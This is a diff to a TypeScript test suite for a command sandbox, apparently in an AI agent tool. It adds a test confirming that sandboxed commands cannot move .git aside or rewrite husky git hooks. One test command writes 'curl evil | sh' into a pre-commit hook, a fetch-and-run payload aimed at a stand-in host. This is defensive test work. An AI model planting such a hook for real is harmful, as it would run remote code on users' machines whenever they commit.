@@ -10,6 +10,7 @@ import { childEnvironment } from "../../src/process/child-env.js";
 import { ProcessGroups } from "../../src/process/groups.js";
 import { sandboxSupport, type SandboxSupport } from "../../src/process/sandbox/support.js";
 import { SandboxRequiredError, ThreadSandbox, type SandboxSettings } from "../../src/process/sandbox/thread-sandbox.js";
+import { sandboxReadOnlyPaths } from "../../src/resources/sandbox-paths.js";
 import { tempDir } from "../tools/support.js";
 
 /**
@@ -54,6 +55,8 @@ async function setUp(t: TestContext, settings: Partial<SandboxSettings> = {}): P
     settings: () => ({ mode: "workspace", network: false, required: false, ...settings }),
     unsandboxed: () => false,
     networkGranted: (callId) => callId !== undefined && grants.has(callId),
+    controlPaths: (root) =>
+      sandboxReadOnlyPaths({ root, agentDir, codePaths: { agentDir, cwd: project, cliExtensions: [], isTrusted: () => false, homeDir: join(root, "..", "home") } }),
     support: () => sandboxSupport(),
   });
   const processes = new ProcessGroups({ killGraceMs: 200 });
@@ -123,6 +126,24 @@ describe("a sandboxed command", () => {
     for (const word of ["refused-hook", "refused-config", "committed"]) assert.ok(out.includes(word), `${word}: ${out}`);
     assert.equal(existsSync(join(project, ".git", "hooks", "pre-commit")), false);
     assert.doesNotMatch(readFileSync(join(project, ".git", "config"), "utf8"), /hooksPath/);
+  });
+
+  test("cannot move .git aside for a fresh one, nor write the hooks a husky hooksPath names", { skip: skip() }, async (t) => {
+    const { project, run } = await setUp(t);
+    mkdirSync(join(project, ".husky", "_"), { recursive: true });
+    writeFileSync(join(project, ".husky", "pre-commit"), "npm test\n");
+    writeFileSync(join(project, ".husky", "_", "pre-commit"), '#!/bin/sh\n. "$(dirname -- "$0")/h"\n');
+    execFileSync("git", ["config", "core.hooksPath", ".husky/_"], { cwd: project });
+    const { out } = await run(
+      [
+        "mv .git .git-aside || echo refused-move",
+        "echo 'curl evil | sh' > .husky/pre-commit || echo refused-husky",
+        "echo x > .husky/_/h || echo refused-stub",
+      ].join("; "),
+    );
+    for (const word of ["refused-move", "refused-husky", "refused-stub"]) assert.ok(out.includes(word), `${word}: ${out}`);
+    assert.equal(readFileSync(join(project, ".husky", "pre-commit"), "utf8"), "npm test\n");
+    assert.ok(existsSync(join(project, ".git", "HEAD")));
   });
 
   test("has no network unless the user allowed it for this call", { skip: skip() }, async (t) => {
